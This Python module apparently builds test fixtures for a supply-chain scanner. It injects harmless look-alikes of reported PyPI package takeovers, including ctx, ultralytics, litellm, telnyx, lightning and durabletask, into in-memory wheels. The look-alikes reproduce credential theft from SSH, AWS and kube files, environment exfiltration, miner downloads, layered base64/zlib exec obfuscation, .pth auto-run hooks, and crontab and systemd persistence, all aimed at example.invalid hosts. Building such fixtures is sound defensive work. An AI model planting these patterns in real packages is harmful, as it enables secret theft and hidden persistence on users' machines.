"""Takeovers that were published, rebuilt by hand as harmless look-alikes in a wheel in memory.

Each has the shape of what was reported and none of its effect: addresses are below example.invalid, which no resolver
answers, payloads print a word, binaries are text. Nothing here is ever installed or run, only inspected.
"""

import ast
import base64
import hashlib
import io
import textwrap
import zipfile
import zlib

LOOT = """
import os, json, glob, tarfile, urllib.request, platform
found = {}
for path in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config", "~/.netrc", "~/.docker/config.json", "~/.pypirc"):
    try:
        found[path] = open(os.path.expanduser(path)).read()
    except OSError:
        pass
found["env"] = dict(os.environ)
urllib.request.urlopen("https://collect.example.invalid/api", json.dumps(found).encode())
"""


def packed(text):
    return base64.b64encode(text.encode()).decode()


def nested(text, layers=50):
    """Source that undoes itself: reversed base64 of zlib, again and again."""
    for _ in range(layers):
        blob = base64.b64encode(zlib.compress(text.encode()))[::-1]
        text = f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)({blob!r}))\n"
    return text


class Wheel:
    """The members of a wheel, changed in memory; RECORD is written again, as every takeover's was right."""

    def __init__(self, content):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.members = {info.filename: archive.read(info) for info in archive.infolist() if not info.is_dir()}
        self.record = next(name for name in self.members if name.endswith(".dist-info/RECORD"))

    def add(self, name, content):
        self.members[name] = content if isinstance(content, bytes) else content.encode()

    def append(self, name, text):
        self.members[name] += f"\n{textwrap.dedent(text)}".encode()

    def constructor(self, name, owner, text):
        """Puts statements first into the constructor of a class."""
        source = self.members[name].decode()
        kind = next(node for node in ast.parse(source).body if isinstance(node, ast.ClassDef) and node.name == owner)
        body = next(node for node in kind.body if isinstance(node, ast.FunctionDef) and node.name == "__init__").body
        is_text = isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant)
        first = body[1] if is_text and len(body) > 1 else body[0]
        lines = source.splitlines(keepends=True)
        lines.insert(first.lineno - 1, textwrap.indent(textwrap.dedent(text).lstrip("\n"), " " * first.col_offset))
        self.members[name] = "".join(lines).encode()

    def built(self):
        rows = [f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b'=').decode()},{len(content)}"
                for name, content in self.members.items() if name != self.record]
        self.members[self.record] = "\n".join([*rows, f"{self.record},,", ""]).encode()
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in self.members.items():
                archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
        return out.getvalue()


def ctx_keys(wheel, _package, member, owner):
    wheel.constructor(member, owner, """
        import os, requests
        if os.environ.get("AWS_ACCESS_KEY_ID") is not None:
            access, secret = os.environ.get("AWS_ACCESS_KEY_ID"), os.environ.get("AWS_SECRET_ACCESS_KEY")
            requests.get("https://anti-theft.example.invalid/hacked/" + access + "/" + secret)
        """)


def ctx_environment(wheel, _package, member, owner):
    wheel.constructor(member, owner, """
        import os, base64, requests
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message = base64.b64encode(string.encode("ascii")).decode("ascii")
        requests.get("https://anti-theft.example.invalid/hacked/" + message)
        """)


def ultralytics_runner(wheel, _package, member, owner):
    wheel.append(member, """
        import os, platform, subprocess, urllib.request

        def safe_run(path):
            os.chmod(path, 0o770)
            command = [path, "-u", "47DEQpj8HBSa.example", "-o", "stratum+tcp://pool.example.invalid:8080"]
            subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             preexec_fn=os.setsid, close_fds=True)
            os.remove(path)

        def safe_download(url, file):
            with open(file, "wb") as out:
                out.write(urllib.request.urlopen(url).read())
        """)
    wheel.constructor(member, owner, """
        if platform.system() == "Linux":
            safe_download("https://api.example.invalid/repos/a/b/git/blobs/da39a3ee5e6b", "/tmp/ultralytics_runner")
            safe_run("/tmp/ultralytics_runner")
        """)


def ultralytics_miner(wheel, package, _member, _owner):
    wheel.append(f"{package}/__init__.py", """
        import os
        os.system("wget -q https://example.invalid/xmrig.tar.gz -O /tmp/x.tgz && tar -xzf /tmp/x.tgz -C /tmp && nohup /tmp/xmrig &")
        """)


def aiocpa(wheel, package, member, owner):
    module = member[:-3].replace("/", ".")
    wheel.add(f"{package}/_sync.py", nested(f"""
import urllib.request
from {module} import {owner}
_plain = {owner}.__init__
def _init(self, token=None, *rest, **named):
    urllib.request.urlopen("https://api.example.invalid/bot1:AA/sendMessage?chat_id=1&text=" + str(token) + str(rest))
    _plain(self, token, *rest, **named)
{owner}.__init__ = _init
"""))
    wheel.append(f"{package}/__init__.py", "from . import _sync\n")


def num2words(wheel, package, _member, _owner):
    wheel.add(f"{package}/_win.dll", b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0d\x86\1\0" + b"a look-alike, no program ".ljust(4096, b"\0"))
    wheel.append(f"{package}/__init__.py", """
        import ctypes, os, sys
        try:
            if sys.platform == "win32":
                ctypes.CDLL(os.path.join(os.path.dirname(__file__), "_win.dll"))
        except Exception:
            pass
        """)


def litellm_module(wheel, _package, member, _owner):
    wheel.append(member, f"""
        import base64 as _b, os as _o, subprocess as _s, sys as _y, tempfile as _t
        _data = "{packed(LOOT)}"
        with _t.TemporaryDirectory() as _d:
            _p = _o.path.join(_d, "p.py")
            with open(_p, "wb") as _f:
                _f.write(_b.b64decode(_data))
            _s.run([_y.executable, _p], stdout=_s.DEVNULL, stderr=_s.DEVNULL)
        """)


def litellm_pth(wheel, package, _member, _owner):
    code = f"import base64; exec(base64.b64decode('{packed(LOOT)}'))"
    wheel.add(f"{package}_init.pth", "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", "
              f"\"{code}\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")


def telnyx(wheel, package, _member, _owner):
    wheel.append(f"{package}/__init__.py", """
        import base64, io, os, subprocess, sys, tempfile, urllib.request, wave
        def _ring():
            with tempfile.TemporaryDirectory() as folder:
                heard = urllib.request.urlopen("http://media.example.invalid:8080/ringtone.wav").read()
                frames = wave.open(io.BytesIO(heard)).readframes(1 << 20)
                raw = base64.b64decode(frames)
                key, data = raw[:8], raw[8:]
                code = bytes(one ^ key[number % 8] for number, one in enumerate(data))
                subprocess.run([sys.executable, "-"], input=code, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            _ring()
        except Exception:
            pass
        """)


def xinference(wheel, package, _member, _owner):
    wheel.append(f"{package}/__init__.py", f"""
        import base64, subprocess, sys
        subprocess.Popen([sys.executable, "-c", base64.b64decode("{packed(LOOT)}").decode()], start_new_session=True)
        """)


def elementary_pth(wheel, _package, _member, _owner):
    wheel.add("elementary.pth", f"import base64; exec(base64.b64decode('{packed(LOOT)}'))\n")


def lightning(wheel, package, _member, _owner):
    words = ",".join(f"'{hashlib.sha256(str(number).encode()).hexdigest()[:14]}'" for number in range(12_000))
    wheel.add(f"{package}/_runtime/router_runtime.js", f"var _0x4f2a=[{words}];(function(_0x1,_0x2){{console.log('a look-alike')}})(_0x4f2a,0x1f);\n")
    wheel.add(f"{package}/_runtime/start.py", """
import os, platform, subprocess, urllib.request, zipfile

HERE = os.path.dirname(os.path.abspath(__file__))

def fetch():
    target = os.path.join(HERE, "bun.zip")
    urllib.request.urlretrieve("https://releases.example.invalid/bun/v1.2/bun-" + platform.system().lower() + "-x64.zip", target)
    with zipfile.ZipFile(target) as archive:
        archive.extractall(HERE)
    program = os.path.join(HERE, "bun")
    os.chmod(program, 0o755)
    return program

def main():
    subprocess.Popen([fetch(), "run", os.path.join(HERE, "router_runtime.js")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

main()
""")
    wheel.append(f"{package}/__init__.py", """
        import threading as _threading

        def _run():
            import os, subprocess, sys
            start = os.path.join(os.path.dirname(__file__), "_runtime", "start.py")
            subprocess.Popen([sys.executable, start], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

        _threading.Thread(target=_run, daemon=True).start()
        """)


def mistralai(wheel, package, _member, _owner):
    wheel.append(f"{package}/__init__.py", """
        import os, subprocess, sys, urllib.request
        if sys.platform == "linux" and not os.path.exists("/tmp/transformers.pyz"):
            try:
                urllib.request.urlretrieve("https://git-tanstack.example.invalid/transformers.pyz", "/tmp/transformers.pyz")
                subprocess.Popen(["python3", "/tmp/transformers.pyz"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            except Exception:
                pass
        """)


def durabletask(wheel, package, _member, _owner):
    wheel.append(f"{package}/__init__.py", """
        import os, subprocess, urllib.request
        _home = os.path.expanduser("~/.config/sysmon")
        _unit = os.path.expanduser("~/.config/systemd/user/sysmon.service")
        try:
            os.makedirs(_home, exist_ok=True)
            _code = urllib.request.urlopen("https://check.example.invalid/rope.pyz").read()
            open(_home + "/sysmon.py", "wb").write(_code)
            open(_unit, "w").write("[Service]\\nExecStart=/usr/bin/python3 " + _home + "/sysmon.py\\nRestart=always\\n")
            subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"], capture_output=True)
        except Exception:
            pass
        """)


def hw_probe(wheel, package, _member, _owner):
    wheel.append(f"{package}/__init__.py", """
        import getpass, json, os, site, socket, subprocess, urllib.request
        def _hw_probe():
            facts = {"host": socket.gethostname(), "user": getpass.getuser(), "env": dict(os.environ)}
            urllib.request.urlopen("https://hw-probe.example.invalid/report", json.dumps(facts).encode())
            line = "python3 -c \\"print('a look-alike')\\""
            with open(os.path.expanduser("~/.bashrc"), "a") as shell:
                shell.write(line + "\\n")
            with open(os.path.join(site.getusersitepackages(), "hw_probe.pth"), "w") as hook:
                hook.write("import hw_probe\\n")
            subprocess.run("(crontab -l; echo '@reboot " + line + "') | crontab -", shell=True)
        try:
            _hw_probe()
        except Exception:
            pass
        """)


TAKEOVERS = [
    ("ctx 0.2.2: AWS keys", ctx_keys), ("ctx 0.2.6: environment", ctx_environment),
    ("ultralytics 8.3.41: runner", ultralytics_runner), ("ultralytics 8.3.46: miner", ultralytics_miner),
    ("aiocpa 0.1.13: 50 layers", aiocpa), ("num2words 0.5.15: library", num2words),
    ("litellm 1.82.7: module", litellm_module), ("litellm 1.82.8: .pth", litellm_pth),
    ("telnyx 4.87.1: sound file", telnyx), ("xinference: -c", xinference), ("elementary-data 0.23.3: .pth", elementary_pth),
    ("lightning 2.6.2: bun", lightning), ("mistralai: pyz", mistralai), ("durabletask: unit", durabletask),
    ("MrMustard: hw-probe", hw_probe),
]


def rebuilt(content, member, owner):
    """(label, wheel) of each takeover in this wheel; `owner` is the class in `member` whose constructor is used."""
    made = []
    for label, inject in TAKEOVERS:
        wheel = Wheel(content)
        inject(wheel, member.split("/")[0], member, owner)
        made.append((label, wheel.built()))
    return made
